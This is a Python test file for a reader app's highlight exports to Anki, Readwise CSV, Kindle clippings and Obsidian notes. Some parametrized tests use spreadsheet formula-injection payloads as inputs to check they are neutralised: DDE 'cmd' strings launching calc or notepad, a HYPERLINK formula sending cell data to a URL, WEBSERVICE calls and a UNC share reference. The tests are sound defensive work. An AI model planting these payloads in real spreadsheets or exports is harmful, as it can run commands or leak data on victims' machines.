"""Highlights for other programs, and in a vault of Obsidian."""

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from reader.archive.article import Article
from reader.document.anchor import Anchor
from reader.document.body import BodyFormat
from reader.document.document import Position, Range
from reader.export.highlight_files import anki, clippings, readwise
from reader.export.vault_notes import write_notes
from reader.lean_dataclasses import replace
from reader.marks.highlights import Highlight
from tests.growth import assert_linear

WHEN = datetime(2026, 11, 29, 13, 5, 9, tzinfo=UTC)
ID = "0123456789abcdef"


@pytest.fixture(autouse=True)
def _utc(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "UTC")


def highlight(text: str, note: str = "", *, uid: str = "f" * 32, block: int = 3) -> Highlight:
    anchor = Anchor(Range(Position(block), Position(block, len(text))), text, "", "")
    return Highlight(1, uid, ID, Path("/a.md"), "灯塔: 新灯", anchor, "一", 1, note, WHEN, WHEN)


def article(_id: str) -> Article:
    url = "https://example.org/a"
    return Article(ID, Path("/a.md"), Path("/"), "灯塔", WHEN, "航标处", (), ("a b",), url, BodyFormat.MARKDOWN, 1)


def test_anki_has_a_row_for_each_highlight() -> None:
    lines = "".join(anki([highlight("a\t<b>\nc", "why")], article)).split("\n")
    assert lines[:3] == ["#separator:tab", "#html:true", "#guid column:1"]
    assert lines[5:] == [
        f"{'f' * 32}\ta &lt;b&gt;<br>c\twhy<br><br>灯塔: 新灯 · 航标处 · https://example.org/a\ta_b",
        "",
    ]


def test_quotation_marks_cannot_swallow_the_rows_of_anki() -> None:
    tagged = replace(article(ID), tags=("R&D", '"a b"'))
    text = "".join(anki([highlight('"Light', '"why'), highlight("two")], lambda _id: tagged))
    rows = list(csv.reader(io.StringIO(text.split("column:4\n")[1]), delimiter="\t"))
    assert [row[1] for row in rows] == ["&quot;Light", "two"]
    assert rows[0][2].startswith("&quot;why<br>")
    assert rows[0][3] == "R&D ”a_b”"


def test_readwise_is_csv_with_every_character_of_the_text() -> None:
    texts = ['=a,"b"\nc', "- 2 of 3", "@maya says: yes!", "+49 30 1234", "=> see below", "-5 °C", "－太好了！"]
    rows = list(csv.reader(io.StringIO("".join(readwise(map(highlight, texts), lambda _id: None)), newline="")))
    assert rows[0] == ["Highlight", "Title", "Author", "URL", "Note", "Location", "Date"]
    assert rows[1] == ['=a,"b"\nc', "灯塔: 新灯", "", "", "", "4", "2026-11-29 13:05:09"]
    assert [row[0] for row in rows[1:]] == texts


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.org/?"&A1,"here")',
        "=cmd|'/C calc'!A0",
        "+cmd|' /C notepad'!_xlbgnm.A1",
        "-2+3+WEBSERVICE (A1)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|'a|b'!A0",
        " \t=NOW()",
        "＝ＳＵＭ（Ａ１）",
        "='\\\\host\\share\\[book.xlsx]one'!A1",
    ],
)
def test_readwise_has_no_value_that_a_spreadsheet_runs(text: str) -> None:
    _head, row = csv.reader(io.StringIO("".join(readwise([highlight(text, text)], lambda _id: None)), newline=""))
    assert (row[0], row[4]) == (f"'{text}", f"'{text}")


def rows_of_semicolons(text: str) -> list[str]:
    """The cells of a text where semicolons divide rows, and only a cell that begins with a quotation mark is quoted."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    return [cell.lstrip() for row in rows for cell in row]


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("tea;=cmd|'/C calc'!A0;milk", "tea;'=cmd|'/C calc'!A0;milk"),
        ("tea; @SUM(A1);+NOW()", "tea;' @SUM(A1);'+NOW()"),
        ('"tea"\n=NOW()', '"tea"\n\'=NOW()'),
        ("=a;=NOW()", "'=a;'=NOW()"),
        ("tea; -2 °C; - milk\n=> water; @maya says", "tea; -2 °C; - milk\n=> water; @maya says"),
    ],
)
def test_readwise_has_no_formula_behind_a_semicolon(text: str, guarded: str) -> None:
    written = "".join(readwise([highlight("quoted", text)], lambda _id: None))
    _head, row = csv.reader(io.StringIO(written, newline=""))
    assert row[4] == guarded
    formulas = [cell for cell in rows_of_semicolons(written) if cell.startswith(("=", "+", "-", "@"))]
    assert [cell for cell in formulas if "(" in cell or "!" in cell] == []


def test_a_long_highlight_takes_linear_time() -> None:
    def write(size: int) -> None:
        list(readwise([highlight("-" + " | a" * size)], lambda _id: None))

    assert_linear(write, 2_000)


def test_clippings_have_the_form_of_a_kindle() -> None:
    assert "".join(clippings([highlight("text", "note")], article)) == (
        "灯塔: 新灯 (航标处)\r\n"
        "- Your Highlight on Location 4-4 | Added on Sunday, November 29, 2026 1:05:09 PM\r\n\r\ntext\r\n==========\r\n"
        "灯塔: 新灯 (航标处)\r\n- Your Note on Location 4 | Added on Sunday, November 29, 2026 1:05:09 PM\r\n\r\n"
        "note\r\n==========\r\n"
    )


def test_a_note_is_updated_in_place_and_own_edits_stay(tmp_path: Path) -> None:
    (first,) = write_notes([highlight("*one*", "mine")], article, tmp_path)
    assert first.name == "灯塔： 新灯.md"
    text = first.read_text(encoding="utf-8")
    assert yaml.safe_load(text.split("---\n")[1]) == {
        "reader-id": ID,
        "title": "灯塔: 新灯",
        "author": "航标处",
        "date": "2026-11-29",
        "source": "https://example.org/a",
        "tags": ["a b"],
    }
    assert "> \\*one\\*\n\n^ffffffffffff\n\nmine\n" in text
    renamed = tmp_path / "inner" / "renamed.md"
    renamed.parent.mkdir()
    renamed.write_text(text.replace("title:", "own: 1\ntitle:") + "My own words.\n", encoding="utf-8")
    first.unlink()
    (again,) = write_notes([highlight("one"), highlight("two", uid="e" * 32, block=5)], article, tmp_path)
    assert again == renamed
    updated = again.read_text(encoding="utf-8")
    assert "own: 1" in updated
    assert updated.endswith("My own words.\n")
    assert updated.count("> ") == 2
    assert "mine" not in updated
    assert list(write_notes([highlight("one"), highlight("two", uid="e" * 32, block=5)], article, tmp_path)) == [again]
    assert again.read_text(encoding="utf-8") == updated


def test_articles_of_one_title_have_notes_of_their_own_and_others_are_kept(tmp_path: Path) -> None:
    (tmp_path / "灯塔： 新灯.md").write_text("mine", encoding="utf-8")
    other = replace(highlight("b"), article_id="f" * 16)
    paths = list(write_notes([highlight("a"), other], lambda _id: None, tmp_path))
    assert len({*paths}) == 2
    assert (tmp_path / "灯塔： 新灯.md").read_text(encoding="utf-8") == "mine"


def test_removed_comments_let_the_highlights_be_appended(tmp_path: Path) -> None:
    (path,) = write_notes([highlight("one")], article, tmp_path)
    path.write_text(f"---\nreader-id: {ID}\n---\n\nall mine\n", encoding="utf-8")
    list(write_notes([highlight("two")], article, tmp_path))
    text = path.read_text(encoding="utf-8")
    assert "all mine\n\n%% reader: begin %%" in text
    assert "> two" in text


def test_note_is_emptied_when_its_last_highlight_is_gone(tmp_path: Path) -> None:
    (path,) = write_notes([highlight("one")], article, tmp_path)
    path.write_text(path.read_text(encoding="utf-8") + "My own words.\n", encoding="utf-8")
    other = tmp_path / "other.md"
    other.write_text(f"---\nreader-id: {'e' * 16}\n---\nno part of the reader\n", encoding="utf-8")
    assert list(write_notes([], article, tmp_path)) == []
    assert list(write_notes([], article, tmp_path, without={ID, "e" * 16})) == [path]
    text = path.read_text(encoding="utf-8")
    assert "> one" not in text
    assert text.endswith("My own words.\n")
    assert list(write_notes([], article, tmp_path, without={ID, "e" * 16})) == []
    assert other.read_text(encoding="utf-8").endswith("no part of the reader\n")


def test_note_is_found_behind_a_byte_order_mark_and_its_id_is_text(tmp_path: Path) -> None:
    number = "123456e123456789"
    one = replace(highlight("one"), article_id=number)
    (path,) = write_notes([one], article, tmp_path)
    text = path.read_text(encoding="utf-8")
    assert f'\nreader-id: "{number}"\n' in text
    path.write_text("\ufeff" + text, encoding="utf-8")
    assert list(write_notes([replace(one, note="mine")], article, tmp_path)) == [path]
    assert path.read_text(encoding="utf-8").startswith("\ufeff---\n")
    assert "mine" in path.read_text(encoding="utf-8")
